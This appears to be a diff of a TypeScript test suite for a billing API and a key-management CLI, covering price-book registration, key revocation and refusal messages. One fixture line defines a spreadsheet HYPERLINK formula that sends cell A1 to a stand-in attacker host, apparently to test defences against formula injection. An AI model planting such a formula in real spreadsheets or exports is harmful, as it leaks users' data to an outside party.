@@ -17,6 +17,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
 const VOLUME = { billingDimension: 'volume_storage_gbs', per: '1000' } as const;
 const BOOK = new PriceBook({
   ...DEFAULT_PRICE_BOOK_FILE,
+  version: 7,
   prices: [...DEFAULT_PRICE_BOOK_FILE.prices, { ...VOLUME, amount: '8', effectiveFrom: '2098-01-01T00:00:00Z' }],
   overrides: [
     { ...VOLUME, accountId: 'acme', amount: '3.50', effectiveFrom: '2025-06-01T00:00:00Z' },
@@ -31,7 +32,8 @@ let initech: Record<string, string>;
 let wide: Record<string, string>;
 
 beforeAll(async () => {
-  api = await startApi({ priceBook: BOOK });
+  api = await startApi();
+  await registerPriceBook(oneServer(api.dependencies.warehouse), BOOK);
   [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
   const used = (resourceName: string, at: string, cost: string) =>
     event({ accountId: 'initech', resourceName, at, cost });
@@ -312,26 +314,24 @@ describe('keys with a login', () => {
     expect([ids.length, ids.includes(created.keyId)]).toEqual([2, true]);
     expect(await listed(provisioner, 'new-tenant')).toMatchObject([{ keyId, revokedAt: null, expiresAt: null }]);
     const revoke = ['revoke', keyId, '--account', 'new-tenant', '--json'];
+    const revoked = { keyId, revokedAt: expect.any(String) };
+    expect(JSON.parse((await keys(provisioner, ...revoke)).stdout)).toEqual(revoked);
+    expect(await listed(provisioner, 'new-tenant')).toMatchObject([{ keyId, revokedAt: NOW.toISOString() }]);
     expect(JSON.parse((await keys(provisioner, ...revoke)).stdout)).toEqual({ keyId, revokedAt: NOW.toISOString() });
-    expect(await keys(admin, 'revoke', 'nope')).toMatchObject({
-      code: 1,
-      stderr: expect.stringContaining('there is no key nope'),
-    });
+    const stderr = expect.stringMatching(/no key nope of keys-of-admin; .*; keys for all accounts need --redis-url\n$/);
+    expect(await keys(admin, 'revoke', 'nope')).toMatchObject({ code: 1, stderr });
   });
 
   it('keys without the right are refused with the words of the API', async () => {
     const foreign = await keys(acme, 'create', '--account', 'globex', '--role', 'member');
     expect(foreign).toMatchObject({
       code: 3,
-      stderr: expect.stringMatching(/Only an admin of the account.*--redis-url/s),
+      stderr: expect.stringMatching(
+        /Only an admin of the account.*\nIf you operate this service, --redis-url manages/s,
+      ),
     });
     const naming = await keys(acme, 'create', '--role', 'member', '--name', 'ACME');
     expect(naming).toMatchObject({ code: 3, stderr: expect.stringContaining('Only a provisioner may name accounts') });
-    const ofPlatform = await keys(acme, 'create', '--role', 'provisioner', '--api-url', api.url);
-    expect(ofPlatform).toMatchObject({
-      code: 2,
-      stderr: expect.stringContaining('give --redis-url in place of --api-url'),
-    });
   });
 });
 
